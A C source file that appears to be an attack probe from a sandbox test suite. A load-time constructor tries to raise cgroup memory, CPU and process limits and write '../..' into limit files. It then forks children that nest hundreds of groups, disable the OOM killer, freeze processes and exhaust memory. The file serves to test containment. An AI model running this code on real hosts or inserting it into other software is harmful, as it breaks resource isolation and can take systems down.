/* rules-groups - all that its part of the control groups lets it do
 *
 * Tries: groups in groups until no path reaches them, a frozen process in the innermost; its own limits raised; a group
 *        without an OOM killer, full; does as it was told
 * Holds: the limits are files of somebody else's; what is below is thawed, killed and removed from inside outwards
 * Mark: 0-100
 * Control: none: it needs a delegated group; grader/tests/sandbox.bats has one
 * Honest: yes */
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <unistd.h>

static void attack_tell(const char *file, const char *word)
{
	int fd = open(file, O_WRONLY);

	if (fd >= 0 && write(fd, word, strlen(word)) > 0)
		close(fd);
}

static void attack_inside(const char *tree, int levels)
{
	static volatile char much[32 << 20];
	char name[32];

	snprintf(name, sizeof name, "lab-attack-%d", (int)getpid());
	if (chdir(tree) < 0)
		_exit(0);
	for (int i = 0; i < levels; i++)
		if (mkdir(name, 0700) < 0 || chdir(name) < 0)
			break;
	attack_tell("memory.limit_in_bytes", "8M");
	attack_tell("memory.oom_control", "1");
	attack_tell("memory.max", "8M");
	attack_tell("cgroup.procs", "0");
	attack_tell("freezer.state", "FROZEN");
	attack_tell("cgroup.freeze", "1");
	for (size_t i = 0; i < sizeof much; i += 4096)
		much[i] = 1;
	_exit(0);
}

static void __attribute__((constructor)) attack(void)
{
	static const char *const trees[] = { "", "/freezer", "/memory", "/pids", "/cpu", "/unified" };
	static const char *const limits[] = { "memory.max", "memory.limit_in_bytes", "memory.memsw.limit_in_bytes", "pids.max",
					      "cpu.max", "cpu.cfs_quota_us", "memory.oom.group", "cgroup.max.depth" };
	static const char *const words[] = { "max", "-1", "100000000000", "../.." };
	char path[128];

	for (size_t t = 0; t < sizeof trees / sizeof *trees; t++) {
		snprintf(path, sizeof path, "/sys/fs/cgroup%s", trees[t]);	/* fits: the names above */
		for (size_t i = 0; i < sizeof limits / sizeof *limits * 4; i++) {
			snprintf(path + strlen("/sys/fs/cgroup") + strlen(trees[t]), 60, "/%s", limits[i / 4]);	/* fits: the names above */
			attack_tell(path, words[i % 4]);
		}
		snprintf(path, sizeof path, "/sys/fs/cgroup%s", trees[t]);	/* fits: the names above */
		if (fork() == 0) {
			prctl(PR_SET_NAME, "lab-attack");
			for (int fd = 0; fd < 64; fd++)
				close(fd);
			attack_inside(path, t == 1 ? 500 : 1);
		}
	}
}
